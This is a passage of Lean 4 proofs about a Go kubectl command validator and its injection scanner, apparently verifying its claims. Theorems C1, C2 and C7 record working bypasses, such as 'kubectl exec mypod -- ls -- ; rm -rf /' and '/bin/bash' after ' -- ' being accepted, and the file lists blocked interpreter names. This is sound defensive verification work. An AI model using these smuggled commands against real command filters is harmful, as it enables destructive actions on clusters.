        have ih := index_some_split t sub k hi
        simp only [List.take_succ_cons, List.cons_append]
        have : k + 1 + sub.length = (k + sub.length) + 1 := by omega
        rw [this, List.drop_succ_cons]
        exact congrArg (c :: ·) (by simpa using ih)

theorem contains_iff_sub : ∀ (s sub : GoString), Contains s sub = true ↔ sub <:+: s
  | [], sub => by
    cases sub <;> simp [Contains, Index]
  | c :: t, sub => by
    have ih := contains_iff_sub t sub
    unfold Contains at ih ⊢
    unfold Index
    by_cases h0 : HasPrefix (c :: t) sub = true
    · simp only [h0, if_true, Option.isSome_some, true_iff]
      exact ((hasPrefix_iff _ _).1 h0).isInfix
    · simp only [h0, Bool.false_eq_true, if_false, Option.isSome_map']
      rw [ih, List.infix_cons_iff]
      constructor
      · exact Or.inr
      · rintro (h | h)
        · exact absurd ((hasPrefix_iff _ _).2 h) h0
        · exact h

theorem contains_false_iff (s sub : GoString) : Contains s sub = false ↔ ¬ sub <:+: s := by
  rw [← contains_iff_sub]; simp

/-- Containment passes from a piece of a text to the whole text. -/
theorem contains_of_piece {a s p : GoString} (h : a <:+: s) (hp : Contains a p = true) :
    Contains s p = true :=
  (contains_iff_sub s p).2 (((contains_iff_sub a p).1 hp).trans h)

theorem contains_false_of_piece {a s p : GoString} (h : a <:+: s)
    (hp : Contains s p = false) : Contains a p = false := by
  cases hc : Contains a p
  · rfl
  · rw [contains_of_piece h hc] at hp; exact absurd hp (by simp)

theorem contains_map_lower {s p : GoString} (h : Contains s p = true) :
    Contains (ToLower s) (ToLower p) = true := by
  rw [contains_iff_sub] at h ⊢
  obtain ⟨a, b, rfl⟩ := h
  exact ⟨ToLower a, ToLower b, by simp [ToLower_append]⟩

/-- A text made of runes below `A` that are not letters occurs in the
lower-cased string only where it occurs in the string. -/
theorem pre_of_pre_lower : ∀ (p s : GoString), (∀ x ∈ p, x.toNat < 65) →
    p <+: ToLower s → p <+: s
  | [], _, _, _ => List.nil_prefix
  | x :: p, [], _, h => by simp [ToLower] at h
  | x :: p, y :: s, hp, h => by
    have h2 : x :: p <+: toLowerRune y :: ToLower s := h
    rw [List.cons_prefix_cons] at h2 ⊢
    obtain ⟨hxy, hps⟩ := h2
    refine ⟨?_, pre_of_pre_lower p s (fun z hz => hp z (List.mem_cons_of_mem _ hz)) hps⟩
    exact (toLowerRune_eq_low (hp x (List.mem_cons_self _ _)) hxy.symm).symm

theorem sub_of_sub_lower : ∀ (p s : GoString), (∀ x ∈ p, x.toNat < 65) →
    p <:+: ToLower s → p <:+: s
  | p, [], _, h => by
    have : p = [] := by simpa [ToLower] using h
    subst this; exact List.nil_infix
  | p, y :: s, hp, h => by
    have h2 : p <:+: toLowerRune y :: ToLower s := h
    rw [List.infix_cons_iff] at h2 ⊢
    rcases h2 with h2 | h2
    · exact Or.inl (pre_of_pre_lower p (y :: s) hp h2)
    · exact Or.inr (sub_of_sub_lower p s hp h2)

/-! ### `strings.Split` -/

theorem splitGo_mem_piece (sep : GoString) : ∀ (n : Nat) (s a : GoString),
    a ∈ splitGo n s sep → a <:+: s
  | 0, s, a, h => by
    simp [splitGo] at h; subst h; exact List.infix_refl _
  | n + 1, s, a, h => by
    unfold splitGo at h
    cases hi : Index s sep with
    | none => simp [hi] at h; subst h; exact List.infix_refl _
    | some m =>
      simp only [hi, List.mem_cons] at h
      rcases h with h | h
      · subst h; exact (List.take_prefix m s).isInfix
      · exact (splitGo_mem_piece sep n _ a h).trans (List.drop_suffix _ s).isInfix

theorem split_mem_piece (s sep a : GoString) (h : a ∈ Split s sep) : a <:+: s :=
  splitGo_mem_piece sep _ s a h

theorem splitGo_head (sep : GoString) (n : Nat) (t : GoString) :
    ∃ a rest, splitGo n t sep = a :: rest ∧ a <+: t := by
  cases n with
  | zero => exact ⟨t, [], rfl, List.prefix_refl _⟩
  | succ n =>
    unfold splitGo
    cases hi : Index t sep with
    | none => exact ⟨t, [], rfl, List.prefix_refl _⟩
    | some m => exact ⟨_, _, rfl, List.take_prefix m t⟩

theorem splitGo_of_index_none (sep : GoString) (n : Nat) (t : GoString)
    (h : Index t sep = none) : splitGo n t sep = [t] := by
  cases n with
  | zero => rfl
  | succ n => simp [splitGo, h]

/-- When the separator occurs at `m`, `Split` cuts there and goes on with
the text after the separator. -/
theorem split_of_index (s sep : GoString) (m : Nat) (hsep : sep ≠ [])
    (h : Index s sep = some m) :
    Split s sep = s.take m :: splitGo (s.length - 1) (s.drop (m + sep.length)) sep := by
  have hs := index_some_split s sep m h
  have hlen : 1 ≤ s.length := by
    have h1 : 1 ≤ sep.length := List.length_pos.2 hsep
    have := congrArg List.length hs
    simp only [List.length_append] at this
    omega
  unfold Split
  obtain ⟨k, hk⟩ : ∃ k, s.length = k + 1 := ⟨s.length - 1, by omega⟩
  rw [hk]
  simp [splitGo, h]

/-! ### The pattern loop -/

theorem firstPattern_some {text : GoString} : ∀ {ps : List GoString} {p : GoString},
    firstPattern text ps = some p →
    ∃ pre post, ps = pre ++ p :: post ∧ Contains text p = true ∧
      ∀ q ∈ pre, Contains text q = false
  | [], p, h => by simp [firstPattern] at h
  | q :: ps, p, h => by
    unfold firstPattern at h
    by_cases hq : Contains text q = true
    · simp only [hq, if_true, Option.some.injEq] at h
      subst h
      exact ⟨[], ps, rfl, hq, by simp⟩
    · simp only [hq, Bool.false_eq_true, if_false] at h
      obtain ⟨pre, post, h1, h2, h3⟩ := firstPattern_some h
      refine ⟨q :: pre, post, by simp [h1], h2, ?_⟩
      intro r hr
      rcases List.mem_cons.1 hr with hr | hr
      · subst hr; simpa using hq
      · exact h3 r hr

theorem firstPattern_none_iff {text : GoString} : ∀ {ps : List GoString},
    firstPattern text ps = none ↔ ∀ p ∈ ps, Contains text p = false
  | [] => by simp [firstPattern]
  | q :: ps => by
    unfold firstPattern
    by_cases hq : Contains text q = true
    · simp [hq]
    · have hq2 : Contains text q = false := by simpa using hq
      simp [hq2, firstPattern_none_iff]

theorem firstPattern_isSome_of_mem {text p : GoString} {ps : List GoString}
    (hp : p ∈ ps) (hc : Contains text p = true) : (firstPattern text ps).isSome = true := by
  cases h : firstPattern text ps with
  | some q => rfl
  | none => rw [firstPattern_none_iff.1 h p hp] at hc; exact absurd hc (by simp)

/-! ### `strings.Fields` and `strings.TrimSpace` -/

theorem fieldsGo_dropWhile : ∀ (s : GoString),
    fieldsGo (s.dropWhile isSpace) [] = fieldsGo s []
  | [] => rfl
  | c :: t => by
    by_cases hc : isSpace c = true
    · rw [List.dropWhile_cons_of_pos hc, fieldsGo_dropWhile t]
      simp [fieldsGo, hc]
    · rw [List.dropWhile_cons_of_neg hc]

theorem fieldsGo_append_space (x : Char) (hx : isSpace x = true) :
    ∀ (s cur : GoString), fieldsGo (s ++ [x]) cur = fieldsGo s cur
  | [], cur => by
    cases cur <;> simp [fieldsGo, hx]
  | c :: t, cur => by
    simp only [List.cons_append, fieldsGo, List.append_eq, fieldsGo_append_space x hx t]

theorem fieldsGo_dropWhile_end (cur : GoString) : ∀ (r : GoString),
    fieldsGo (r.dropWhile isSpace).reverse cur = fieldsGo r.reverse cur
  | [] => rfl
  | x :: r => by
    by_cases hx : isSpace x = true
    · rw [List.dropWhile_cons_of_pos hx, fieldsGo_dropWhile_end cur r, List.reverse_cons,
        fieldsGo_append_space x hx]
    · rw [List.dropWhile_cons_of_neg hx]

/-- Trimming does not change the fields: the tokens the validator reads are
the white-space-delimited tokens of the command. -/
theorem fields_trimSpace (s : GoString) : Fields (TrimSpace s) = Fields s := by
  unfold Fields TrimSpace
  rw [fieldsGo_dropWhile_end, List.reverse_reverse, fieldsGo_dropWhile]

theorem fields_nil : Fields [] = [] := rfl

/-! ### The validator and the scanner, case by case -/

theorem base_kubectl : Base kubectlName = kubectlName := by decide

theorem strictPatterns_eq : strictPatterns = dangerousPatterns := rfl

theorem doubleDash_ne_nil : doubleDash ≠ [] := by decide

/-- The validator accepts exactly when every check passes. -/
theorem validate_eq_none_iff (c : GoString) :
    ValidateKubectlCommand c = none ↔
      ∃ w0 w1 rest, Fields c = w0 :: w1 :: rest ∧ Base w0 = kubectlName ∧
        checkForCommandInjection c = none ∧ isValidKubectlSubcommand w1 = true := by
  unfold ValidateKubectlCommand
  rw [fields_trimSpace]
  cases c with
  | nil => simp [fields_nil]
  | cons a t =>
    simp only [List.isEmpty_cons, Bool.false_eq_true, if_false]
    cases hf : Fields (a :: t) with
    | nil => simp
    | cons w0 more =>
      by_cases hb : Base w0 = kubectlName
      · simp only [hb, ne_eq, not_true_eq_false, if_false]
        cases hc : checkForCommandInjection (a :: t) with
        | some e => simp
        | none =>
          cases more with
          | nil => simp
          | cons w1 rest =>
            cases hv : isValidKubectlSubcommand w1
            · simp only [hv, Bool.not_false, if_true]
              constructor
              · intro h; cases h
              · rintro ⟨v0, v1, r, h1, -, -, h4⟩
                cases h1; rw [hv] at h4; cases h4
            · simp only [hv, Bool.not_true, Bool.false_eq_true, if_false, true_iff]
              exact ⟨w0, w1, rest, rfl, hb, trivial, hv⟩
      · simp only [ne_eq, hb, not_false_eq_true, if_true]
        constructor
        · intro h; cases h
        · rintro ⟨v0, v1, r, h1, h2, -⟩
          cases h1; exact absurd h2 hb

/-- Outside the exec shape the scanner is the scan of the whole command. -/
theorem check_whole (c : GoString) (h : execShape (ToLower c) = false) :
    checkForCommandInjection c =
      (firstPattern (ToLower c) allPatterns).map dangerousError := by
  simp [checkForCommandInjection, h]

/-- In the exec shape the scanner reads the head, then the piece between the
first ` -- ` and the next one (the first piece `Split` cuts from the tail). -/
theorem check_exec (c : GoString) (h : execShape (ToLower c) = true) :
    ∃ seg more, splitGo ((ToLower c).length - 1) (tailOf (ToLower c)) doubleDash = seg :: more ∧
      seg <+: tailOf (ToLower c) ∧
      checkForCommandInjection c =
        ((firstPattern (headOf (ToLower c)) dangerousPatterns).orElse
          fun _ => firstPattern seg dangerousPatterns).map dangerousError := by
  have hd : Contains (ToLower c) doubleDash = true := by
    unfold execShape at h
    exact (Bool.and_eq_true _ _ ▸ h).2
  unfold Contains at hd
  obtain ⟨m, hm⟩ := Option.isSome_iff_exists.1 hd
  obtain ⟨seg, more, hseg, hpre⟩ :=
    splitGo_head doubleDash ((ToLower c).length - 1) (tailOf (ToLower c))
  refine ⟨seg, more, hseg, hpre, ?_⟩
  have hsplit := split_of_index (ToLower c) doubleDash m doubleDash_ne_nil hm
  have hhead : headOf (ToLower c) = (ToLower c).take m := by simp [headOf, hm]
  have htail : tailOf (ToLower c) = (ToLower c).drop (m + doubleDash.length) := by
    simp [tailOf, hm]
  rw [← htail, hseg] at hsplit
  simp only [checkForCommandInjection, h, if_true, hsplit, strictPatterns_eq, hhead]
  cases firstPattern (List.take m (ToLower c)) dangerousPatterns with
  | some p => simp
  | none =>
    cases firstPattern seg dangerousPatterns <;> simp

/-- A text with a ` -- ` is its head, the ` -- `, and its tail. -/
theorem head_tail_split (t : GoString) (h : Contains t doubleDash = true) :
    t = headOf t ++ doubleDash ++ tailOf t := by
  unfold Contains at h
  obtain ⟨m, hm⟩ := Option.isSome_iff_exists.1 h
  simpa [headOf, tailOf, hm] using index_some_split t doubleDash m hm

theorem index_none_of_contains_false {s sub : GoString} (h : Contains s sub = false) :
    Index s sub = none := by
  unfold Contains at h
  cases hi : Index s sub with
  | none => rfl
  | some m => simp [hi] at h

/-- A two-rune text inside `a ++ b` lies in `a`, or in `b`, or straddles the
seam. -/
theorem infix_pair_append (x y : Char) : ∀ (a b : GoString), [x, y] <:+: a ++ b →
    [x, y] <:+: a ∨ [x, y] <:+: b ∨ (a.getLast? = some x ∧ b.head? = some y)
  | [], b, h => Or.inr (Or.inl h)
  | z :: a, b, h => by
    have h2 : [x, y] <:+: z :: (a ++ b) := h
    rw [List.infix_cons_iff] at h2
    rcases h2 with h2 | h2
    · rw [List.cons_prefix_cons] at h2
      obtain ⟨hxz, hy⟩ := h2
      subst hxz
      cases a with
      | nil =>
        refine Or.inr (Or.inr ⟨rfl, ?_⟩)
        cases b with
        | nil => simp at hy
        | cons b0 b1 =>
          rw [List.nil_append, List.cons_prefix_cons] at hy
          simp [hy.1]
      | cons a0 a1 =>
        rw [List.cons_append, List.cons_prefix_cons] at hy
        refine Or.inl (List.IsPrefix.isInfix ?_)
        rw [hy.1]
        exact ⟨a1, rfl⟩
    · rcases infix_pair_append x y a b h2 with h3 | h3 | ⟨h3, h4⟩
      · exact Or.inl (List.infix_cons h3)
      · exact Or.inr (Or.inl h3)
      · refine Or.inr (Or.inr ⟨?_, h4⟩)
        cases a with
        | nil => simp at h3
        | cons a0 a1 => rw [List.getLast?_cons_cons]; exact h3

/-- A two-rune pattern of the list, free of blanks and dashes, is found by the
scanner wherever it stands, provided the command has at most one ` -- `. -/
theorem check_pair_found (x y : Char) (hx : x ≠ ' ') (hy : y ≠ ' ')
    (hdd : ¬ [x, y] <:+: doubleDash) (hmem : [x, y] ∈ dangerousPatterns)
    (c : GoString) (hc : Contains (ToLower c) [x, y] = true)
    (hone : Contains (tailOf (ToLower c)) doubleDash = false) :
    (checkForCommandInjection c).isSome = true := by
  cases hs : execShape (ToLower c) with
  | false =>
    rw [check_whole c hs, Option.isSome_map']
    exact firstPattern_isSome_of_mem (List.mem_append_left _ hmem) hc
  | true =>
    obtain ⟨seg, more, hseg, -, hcheck⟩ := check_exec c hs
    rw [splitGo_of_index_none _ _ _ (index_none_of_contains_false hone)] at hseg
    have hst : seg = tailOf (ToLower c) := by cases hseg; rfl
    have hd : Contains (ToLower c) doubleDash = true := by
      unfold execShape at hs
      exact (Bool.and_eq_true _ _ ▸ hs).2
    have hsplit := head_tail_split (ToLower c) hd
    have hin : [x, y] <:+: headOf (ToLower c) ++ (doubleDash ++ tailOf (ToLower c)) := by
      rw [← List.append_assoc, ← hsplit]; exact (contains_iff_sub _ _).1 hc
    rw [hcheck, Option.isSome_map']
    rcases infix_pair_append x y _ _ hin with h1 | h1 | ⟨-, h1⟩
    · have := firstPattern_isSome_of_mem hmem ((contains_iff_sub _ _).2 h1)
      obtain ⟨p, hp⟩ := Option.isSome_iff_exists.1 this
      simp [hp]
    · rcases infix_pair_append x y _ _ h1 with h2 | h2 | ⟨h2, -⟩
      · exact absurd h2 hdd
      · have := firstPattern_isSome_of_mem hmem ((contains_iff_sub _ _).2 h2)
        obtain ⟨p, hp⟩ := Option.isSome_iff_exists.1 this
        cases hh : firstPattern (headOf (ToLower c)) dangerousPatterns <;> simp [hst, hp]
      · exact absurd (Option.some.inj h2).symm hx
    · exact absurd (Option.some.inj h1).symm hy

/-- A map whose stored values are all `true` answers `true` exactly on its
keys. -/
theorem mapIndex_iff_key (v : GoString) : ∀ (m : List (GoString × Bool)),
    (∀ e ∈ m, e.2 = true) → (mapIndex m v = true ↔ v ∈ m.map Prod.fst)
  | [], _ => by simp [mapIndex]
  | (k, b) :: m, h => by
    have hb : b = true := h (k, b) (List.mem_cons_self _ _)
    have ih := mapIndex_iff_key v m (fun e he => h e (List.mem_cons_of_mem _ he))
    unfold mapIndex at ih ⊢
    by_cases hk : v = k
    · subst hk; simp [List.lookup, hb]
    · have hk2 : (v == k) = false := by simpa using hk
      simp only [List.lookup, hk2, List.map_cons, List.mem_cons, hk, false_or]
      exact ih

theorem isValid_iff_specVerbs (v : GoString) :
    isValidKubectlSubcommand v = true ↔ v ∈ specVerbs := by
  have h := mapIndex_iff_key v allowedSubcommands (by decide)
  have hkeys : allowedSubcommands.map Prod.fst = specVerbs := by decide
  rw [hkeys] at h
  exact h

theorem validate_isSome_of_check {c : GoString}
    (h : (checkForCommandInjection c).isSome = true) :
    (ValidateKubectlCommand c).isSome = true := by
  cases hv : ValidateKubectlCommand c with
  | some e => rfl
  | none =>
    obtain ⟨_, _, _, _, _, h3, _⟩ := (validate_eq_none_iff c).1 hv
    rw [h3] at h; exact absurd h (by simp)

theorem headOf_piece (t : GoString) : headOf t <:+: t := by
  unfold headOf
  cases Index t doubleDash with
  | none => exact List.infix_refl _
  | some m => exact (List.take_prefix m t).isInfix

theorem tailOf_piece (t : GoString) : tailOf t <:+: t := by
  unfold tailOf
  cases Index t doubleDash with
  | none => exact List.nil_infix
  | some m => exact (List.drop_suffix _ t).isInfix

/-- In the exec shape a clean head and a clean tail give no match. -/
theorem check_exec_clean (c : GoString) (hs : execShape (ToLower c) = true)
    (hh : ∀ p ∈ dangerousPatterns, Contains (headOf (ToLower c)) p = false)
    (ht : ∀ p ∈ dangerousPatterns, Contains (tailOf (ToLower c)) p = false) :
    checkForCommandInjection c = none := by
  obtain ⟨seg, more, -, hpre, hcheck⟩ := check_exec c hs
  have h1 : firstPattern (headOf (ToLower c)) dangerousPatterns = none :=
    firstPattern_none_iff.2 hh
  have h2 : firstPattern seg dangerousPatterns = none :=
    firstPattern_none_iff.2 fun p hp => contains_false_of_piece hpre.isInfix (ht p hp)
  rw [hcheck, h1]
  simp [h2]

theorem execShape_false_of_no_doubleDash (c : GoString)
    (h : Contains c doubleDash = false) : execShape (ToLower c) = false := by
  have hl : Contains (ToLower c) doubleDash = false := by
    rw [contains_false_iff] at h ⊢
    exact fun hin => h (sub_of_sub_lower doubleDash c (by decide) hin)
  simp [execShape, hl]

/-! ## The claims -/

/-- C1 (the code falls short): a command holding `;`, `|`, `&`, `<` and `$(`
after a second ` -- ` of a `kubectl exec` is accepted by
`ValidateKubectlCommand`, although the claim wants every command with such a
metacharacter rejected.  `strings.Split` cuts the text at every ` -- ` and
the scanner reads the first two pieces only. -/
theorem C1_metacharacters_after_second_double_dash :
    Contains "kubectl exec mypod -- ls -- a; b | c & d < e $(f)".toList ";".toList = true ∧
    Contains "kubectl exec mypod -- ls -- a; b | c & d < e $(f)".toList "|".toList = true ∧
    Contains "kubectl exec mypod -- ls -- a; b | c & d < e $(f)".toList "&".toList = true ∧
    Contains "kubectl exec mypod -- ls -- a; b | c & d < e $(f)".toList "<".toList = true ∧
    Contains "kubectl exec mypod -- ls -- a; b | c & d < e $(f)".toList "$(".toList = true ∧
    Split (ToLower "kubectl exec mypod -- ls -- a; b | c & d < e $(f)".toList) doubleDash =
      ["kubectl exec mypod".toList, "ls".toList, "a; b | c & d < e $(f)".toList] ∧
    ValidateKubectlCommand "kubectl exec mypod -- ls -- a; b | c & d < e $(f)".toList = none := by
  decide

/-- C2 (the code falls short): for `kubectl exec mypod -- ls -- ; rm -rf /`
the scanner takes the split path, the tail (everything after the first
` -- `) holds the base patterns `;` and `rm `, and still no match is
reported and the command is accepted: the piece the code scans after the
head is only `ls`, the text up to the next ` -- `. -/
theorem C2_tail_scanned_up_to_next_double_dash :
    execShape (ToLower "kubectl exec mypod -- ls -- ; rm -rf /".toList) = true ∧
    tailOf (ToLower "kubectl exec mypod -- ls -- ; rm -rf /".toList) =
      "ls -- ; rm -rf /".toList ∧
    firstPattern (tailOf (ToLower "kubectl exec mypod -- ls -- ; rm -rf /".toList))
      dangerousPatterns = some ";".toList ∧
    checkForCommandInjection "kubectl exec mypod -- ls -- ; rm -rf /".toList = none ∧
    ValidateKubectlCommand "kubectl exec mypod -- ls -- ; rm -rf /".toList = none := by
  decide

/-- C3, as stated, fails: `kubectl get pods > out.txt` contains `>` and is
accepted; the bare `>` is not in the pattern list of the code. -/
theorem C3_bare_redirect_accepted :
    Contains "kubectl get pods > out.txt".toList ">".toList = true ∧
    ">".toList ∉ allPatterns ∧
    ValidateKubectlCommand "kubectl get pods > out.txt".toList = none := by
  decide

/-- C3, amended: the redirections in the pattern list are `>/` and `>>`.
Every command that contains `>/` or `>>` and has at most one ` -- ` (none in
the tail of its lower-cased text) is rejected by `ValidateKubectlCommand`. -/
theorem C3_listed_redirects_rejected (c : GoString)
    (hp : Contains c ">/".toList = true ∨ Contains c ">>".toList = true)
    (hone : Contains (tailOf (ToLower c)) doubleDash = false) :
    (ValidateKubectlCommand c).isSome = true := by
  have hcheck : (checkForCommandInjection c).isSome = true := by
    rcases hp with hp | hp
    · exact check_pair_found '>' '/' (by decide) (by decide) (by decide) (by decide) c
        (contains_map_lower hp) hone
    · exact check_pair_found '>' '>' (by decide) (by decide) (by decide) (by decide) c
        (contains_map_lower hp) hone
  cases hv : ValidateKubectlCommand c with
  | some e => rfl
  | none =>
    obtain ⟨_, _, _, _, _, h3, _⟩ := (validate_eq_none_iff c).1 hv
    rw [h3] at hcheck; exact absurd hcheck (by simp)

theorem C3_listed_redirects_rejected_witness :
    Contains "kubectl get pods >/tmp/out".toList ">/".toList = true ∧
    Contains (tailOf (ToLower "kubectl get pods >/tmp/out".toList)) doubleDash = false ∧
    (ValidateKubectlCommand "kubectl get pods >/tmp/out".toList).isSome = true :=
  ⟨by decide, by decide,
    C3_listed_redirects_rejected "kubectl get pods >/tmp/out".toList
      (Or.inl (by decide)) (by decide)⟩

/-- C4: a command whose first white-space-delimited token has a base name
other than `kubectl` is rejected by `ValidateKubectlCommand`, and every
accepted command has a first token whose base name is `kubectl`. -/
theorem C4_first_token_base_is_kubectl (c : GoString) :
    (∀ w rest, Fields c = w :: rest → Base w ≠ "kubectl".toList →
      (ValidateKubectlCommand c).isSome = true) ∧
    (ValidateKubectlCommand c = none →
      ∃ w rest, Fields c = w :: rest ∧ Base w = "kubectl".toList) := by
  constructor
  · intro w rest hf hb
    cases hv : ValidateKubectlCommand c with
    | some e => rfl
    | none =>
      obtain ⟨w0, w1, r, h1, h2, -⟩ := (validate_eq_none_iff c).1 hv
      rw [hf] at h1
      cases h1
      exact absurd h2 hb
  · intro hv
    obtain ⟨w0, w1, r, h1, h2, -⟩ := (validate_eq_none_iff c).1 hv
    exact ⟨w0, w1 :: r, h1, h2⟩

theorem C4_first_token_base_is_kubectl_witness :
    Fields "ls -la".toList = ["ls".toList, "-la".toList] ∧
    Base "ls".toList ≠ "kubectl".toList ∧
    (ValidateKubectlCommand "ls -la".toList).isSome = true :=
  ⟨by decide, by decide,
    (C4_first_token_base_is_kubectl "ls -la".toList).1 "ls".toList ["-la".toList]
      (by decide) (by decide)⟩

/-- C5: `isValidKubectlSubcommand` is true exactly on the 30 listed verbs
(matched as written, so `GET` is not one); a command whose second token is
outside the list is rejected by `ValidateKubectlCommand`, as
`kubectl run nginx` and `kubectl invalid-subcommand` are, and every accepted
command has its second token in the list. -/
theorem C5_allowlist_is_the_thirty_verbs :
    (∀ v, isValidKubectlSubcommand v = true ↔
      v ∈ ["get", "describe", "logs", "exec", "top", "explain", "create", "apply",
        "delete", "patch", "replace", "scale", "rollout", "annotate", "label",
        "config", "cluster-info", "version", "api-versions", "api-resources",
        "diff", "port-forward", "proxy", "auth", "certificate", "cordon",
        "uncordon", "drain", "taint", "wait"].map String.toList) ∧
    specVerbs.length = 30 ∧ specVerbs.Nodup ∧
    isValidKubectlSubcommand "GET".toList = false ∧
    (∀ c w0 w1 rest, Fields c = w0 :: w1 :: rest → w1 ∉ specVerbs →
      (ValidateKubectlCommand c).isSome = true) ∧
    (∀ c, ValidateKubectlCommand c = none →
      ∃ w0 w1 rest, Fields c = w0 :: w1 :: rest ∧ w1 ∈ specVerbs) ∧
    ValidateKubectlCommand "kubectl run nginx".toList =
      some "invalid or restricted kubectl subcommand: run".toList ∧
    ValidateKubectlCommand "kubectl invalid-subcommand".toList =
      some "invalid or restricted kubectl subcommand: invalid-subcommand".toList := by
  refine ⟨isValid_iff_specVerbs, by decide, by decide, by decide, ?_, ?_, by decide, by decide⟩
  · intro c w0 w1 rest hf hw
    cases hv : ValidateKubectlCommand c with
    | some e => rfl
    | none =>
      obtain ⟨v0, v1, r, h1, -, -, h4⟩ := (validate_eq_none_iff c).1 hv
      rw [hf] at h1
      cases h1
      exact absurd ((isValid_iff_specVerbs _).1 h4) hw
  · intro c hv
    obtain ⟨v0, v1, r, h1, -, -, h4⟩ := (validate_eq_none_iff c).1 hv
    exact ⟨v0, v1, r, h1, (isValid_iff_specVerbs _).1 h4⟩

theorem C5_allowlist_is_the_thirty_verbs_witness :
    Fields "kubectl run nginx".toList = ["kubectl".toList, "run".toList, "nginx".toList] ∧
    "run".toList ∉ specVerbs ∧
    (ValidateKubectlCommand "kubectl run nginx".toList).isSome = true :=
  ⟨by decide, by decide,
    C5_allowlist_is_the_thirty_verbs.2.2.2.2.1 "kubectl run nginx".toList "kubectl".toList
      "run".toList ["nginx".toList] (by decide) (by decide)⟩

/-- C6, as stated, fails: `kubectl get pods -n shop` has the allowlisted verb
`get` and none of the base dangerous patterns of the specification, yet it
is rejected, for the interpreter name `sh` inside `shop`. -/
theorem C6_clean_command_rejected_for_interpreter_name :
    Fields "kubectl get pods -n shop".toList =
      ["kubectl", "get", "pods", "-n", "shop"].map String.toList ∧
    isValidKubectlSubcommand "get".toList = true ∧
    (∀ p ∈ specBasePatterns, Contains (ToLower "kubectl get pods -n shop".toList) p = false) ∧
    ValidateKubectlCommand "kubectl get pods -n shop".toList =
      some "command contains potentially dangerous pattern: sh".toList := by
  decide

/-- C6, amended: a command `kubectl <verb> ...` whose verb is allowlisted,
whose lower-cased text contains none of the base dangerous patterns and,
unless that text contains both `kubectl exec` and ` -- `, none of the
interpreter names either, is accepted by `ValidateKubectlCommand`. -/
theorem C6_clean_command_accepted (c w1 : GoString) (rest : List GoString)
    (hf : Fields c = "kubectl".toList :: w1 :: rest)
    (hv : isValidKubectlSubcommand w1 = true)
    (hbase : ∀ p ∈ specBasePatterns, Contains (ToLower c) p = false)
    (hint : execShape (ToLower c) = false →
      ∀ p ∈ interpreterNames, Contains (ToLower c) p = false) :
    ValidateKubectlCommand c = none := by
  have hcover : ∀ p ∈ dangerousPatterns, ∃ q ∈ specBasePatterns, Contains p q = true := by
    decide
  have hdang : ∀ p ∈ dangerousPatterns, Contains (ToLower c) p = false := by
    intro p hp
    obtain ⟨q, hq, hqp⟩ := hcover p hp
    cases hc : Contains (ToLower c) p with
    | false => rfl
    | true =>
      have := contains_of_piece ((contains_iff_sub _ _).1 hc) hqp
      rw [hbase q hq] at this
      exact absurd this (by simp)
  refine (validate_eq_none_iff c).2 ⟨_, w1, rest, hf, base_kubectl, ?_, hv⟩
  cases hs : execShape (ToLower c) with
  | true =>
    exact check_exec_clean c hs
      (fun p hp => contains_false_of_piece (headOf_piece _) (hdang p hp))
      (fun p hp => contains_false_of_piece (tailOf_piece _) (hdang p hp))
  | false =>
    rw [check_whole c hs]
    have : firstPattern (ToLower c) allPatterns = none := by
      refine firstPattern_none_iff.2 fun p hp => ?_
      rcases List.mem_append.1 hp with hp | hp
      · exact hdang p hp
      · exact hint hs p hp
    simp [this]

theorem C6_clean_command_accepted_witness :
    Fields "kubectl get pods -n prod".toList =
      "kubectl".toList :: "get".toList :: ["pods".toList, "-n".toList, "prod".toList] ∧
    ValidateKubectlCommand "kubectl get pods -n prod".toList = none :=
  ⟨by decide,
    C6_clean_command_accepted "kubectl get pods -n prod".toList "get".toList
      ["pods".toList, "-n".toList, "prod".toList] (by decide) (by decide) (by decide)
      (fun _ => by decide)⟩

/-- C7: a command that begins with `kubectl exec`, has the tokens `kubectl`
and `exec` first, and contains ` -- ` is accepted by
`ValidateKubectlCommand` whenever neither the text before the first ` -- `
nor the text after it (both lower-cased) contains a pattern of the scanner
list; interpreter names do not count there.  So `kubectl exec mypod --
/bin/bash`, `kubectl exec mypod -- /bin/sh -c 'ps aux'` and `kubectl exec
mypod -- ps aux` are accepted, the first two with `bash`, `sh` and `/bin/`
in the tail. -/
theorem C7_exec_tail_exception :
    (∀ (c : GoString) (rest : List GoString),
      Fields c = "kubectl".toList :: "exec".toList :: rest →
      "kubectl exec".toList <+: c →
      Contains c " -- ".toList = true →
      (∀ p ∈ dangerousPatterns, Contains (headOf (ToLower c)) p = false) →
      (∀ p ∈ dangerousPatterns, Contains (tailOf (ToLower c)) p = false) →
      ValidateKubectlCommand c = none) ∧
    ValidateKubectlCommand "kubectl exec mypod -- /bin/bash".toList = none ∧
    ValidateKubectlCommand "kubectl exec mypod -- /bin/sh -c 'ps aux'".toList = none ∧
    ValidateKubectlCommand "kubectl exec mypod -- ps aux".toList = none ∧
    Contains (tailOf (ToLower "kubectl exec mypod -- /bin/bash".toList)) "bash".toList = true ∧
    Contains (tailOf (ToLower "kubectl exec mypod -- /bin/sh -c 'ps aux'".toList))
      "sh".toList = true := by
  refine ⟨?_, by decide, by decide, by decide, by decide, by decide⟩
  intro c rest hf hpre hdd hh ht
  have hs : execShape (ToLower c) = true := by
    have h1 : Contains (ToLower c) kubectlExec = true :=
      contains_map_lower ((contains_iff_sub _ _).2 hpre.isInfix)
    have h2 : Contains (ToLower c) doubleDash = true := contains_map_lower hdd
    simp [execShape, h1, h2]
  exact (validate_eq_none_iff c).2
    ⟨_, _, rest, hf, base_kubectl, check_exec_clean c hs hh ht, by decide⟩

theorem C7_exec_tail_exception_witness :
    Fields "kubectl exec web-0 -- python3 -V".toList =
      "kubectl".toList :: "exec".toList :: ["web-0", "--", "python3", "-V"].map String.toList ∧
    Contains (ToLower "kubectl exec web-0 -- python3 -V".toList) "python".toList = true ∧
    ValidateKubectlCommand "kubectl exec web-0 -- python3 -V".toList = none :=
  ⟨by decide, by decide,
    C7_exec_tail_exception.1 "kubectl exec web-0 -- python3 -V".toList
      (["web-0", "--", "python3", "-V"].map String.toList)
      (by decide) (by decide) (by decide) (by decide) (by decide)⟩

/-- C8: a command without the sequence ` -- ` whose lower-cased text
contains one of `bash`, `sh`, `/bin/`, `python`, `perl`, `ruby`, `node` is
rejected by `ValidateKubectlCommand`; `kubectl get pods | bash` is. -/
theorem C8_interpreter_names_blocked_without_double_dash :
    (∀ c : GoString, Contains c " -- ".toList = false →
      (∃ p ∈ ["bash", "sh", "/bin/", "python", "perl", "ruby", "node"].map String.toList,
        Contains (ToLower c) p = true) →
      (ValidateKubectlCommand c).isSome = true) ∧
